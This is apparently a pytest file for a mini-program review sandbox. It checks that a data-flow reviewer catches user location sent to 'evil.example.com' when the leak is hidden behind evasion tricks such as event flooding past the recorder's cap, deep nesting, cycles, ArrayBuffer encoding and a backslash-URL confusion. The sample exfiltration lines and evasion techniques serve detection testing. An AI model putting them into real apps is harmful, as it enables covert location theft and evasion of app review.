"""A plain location leak hidden behind each trick against the record is still found, on both engines; reaching a
cap of the record is a finding of its own."""

from __future__ import annotations

import pytest

from mpsandbox.review.model import Severity, Verdict

from .helpers import fake, review_fake, rules_of, tap

LEAK = "tt.request({ url: 'https://evil.example.com/c', method: 'POST', data: d })"
HIDDEN = {
    # 100,001 events first (set and clear a timer: two events), over a few turns, then the leak
    "after-100001-events": "var rounds = 0; var spam = function () { for (var i = 0; i < 5001; i++) "
                           "clearTimeout(setTimeout(spam, 9e9)); if (++rounds < 10) setTimeout(spam, 1); "
                           "else setTimeout(function () { var d = { lat: r.latitude }; " + LEAK + " }, 1) }; spam();",
    "1500-deep": "var d = { lat: r.latitude }; for (var i = 0; i < 1500; i++) d = { a: d }; " + LEAK,
    "self-toJSON-70-deep": "Object.prototype.toJSON = function () { return this }; var d = { lat: r.latitude };"
                           " for (var i = 0; i < 70; i++) d = { a: d }; " + LEAK,
    "cycle": "var d = { lat: r.latitude }; d.self = d; " + LEAK,
    "array-buffer": "var s = 'lat=' + r.latitude, u = new Uint8Array(s.length); for (var i = 0; i < s.length; i++)"
                    " u[i] = s.charCodeAt(i); var d = u.buffer; " + LEAK,
    "backslash-url": "tt.request({ url: 'https://evil.example.com\\\\@api.example.com/c?lat=' + r.latitude })",
}


def review_leak(body: str, engine: str):
    src = "Page({ go() { tt.getLocation({ success: (r) => { " + body + " } }) } })"
    bundle = fake({"pages/a/a": src}, app_json={"permission": {"scope.userLocation": {"desc": "shops near you"}}},
                  templates={"pages/a/a": tap("go")})
    return review_fake(bundle, allow_domains=["api.example.com"], engine=engine)


@pytest.mark.parametrize("trick", list(HIDDEN))
def test_a_leak_behind_each_trick_is_found(engine_name, trick):
    report = review_leak(HIDDEN[trick], engine_name)
    assert report.verdict is Verdict.REJECT
    leaks = [f for f in report.findings if f.rule == "data-to-network"]
    assert leaks, "\n".join(f"{f.rule}: {f.message}" for f in report.findings)
    assert leaks[0].severity is Severity.ERROR
    assert "location from getLocation reaches request → evil.example.com" in leaks[0].message
    if trick == "after-100001-events":
        cap = [f for f in report.findings if f.rule == "record-incomplete"]
        assert cap and cap[0].severity is Severity.WARNING and "100,000 events" in cap[0].message


def test_a_busy_bundle_cannot_be_approved_and_a_cut_sink_payload_is_rejected():
    busy = fake({"pages/a/a": "Page({ onLoad() { for (let k = 0; k < 10; k++) setTimeout(() => {"
                              " for (var i = 0; i < 201; i++) console.log('tick', k, i) }, k * 100) } })"})
    report = review_fake(busy)
    assert report.verdict is Verdict.FLAG and rules_of(report) == {"record-incomplete"}
    # 2,010 lines a launch, and the walk launches twice: every line past the 2,000 is counted (the count grew after
    # the cap's event went from the walk's process to the reviewer: it is sent again at the walk's end)
    assert "console lines (2,000 lines) was reached; 2,020 lines left out" in report.findings[0].message

    cut = review_leak("tt.request({ url: 'https://api.example.com/u', data: 'x'.repeat(9 * 1024 * 1024) })", "native")
    finding = [f for f in cut.findings if f.rule == "record-incomplete"][0]
    assert cut.verdict is Verdict.REJECT and finding.severity is Severity.ERROR and "at tt.request" in finding.message


def test_a_share_payload_1500_deep_is_a_verdict_with_its_flow(engine_name):
    src = ("Page({ go() { tt.getLocation({ success: (r) => { this.lat = r.latitude } }) },"
           " onShareAppMessage() { var d = { lat: this.lat }; for (var i = 0; i < 1500; i++) d = { a: d };"
           " return { title: 't', path: '/pages/a/a', extra: d } } })")
    bundle = fake({"pages/a/a": src}, app_json={"permission": {"scope.userLocation": {"desc": "shops near you"}}},
                  templates={"pages/a/a": tap("go")})
    report = review_fake(bundle, engine=engine_name)
    assert report.error is None and report.verdict is Verdict.FLAG
    assert [f.message for f in report.findings if f.rule == "data-to-share"] == [
        "location from getLocation reaches onShareAppMessage → /pages/a/a"]
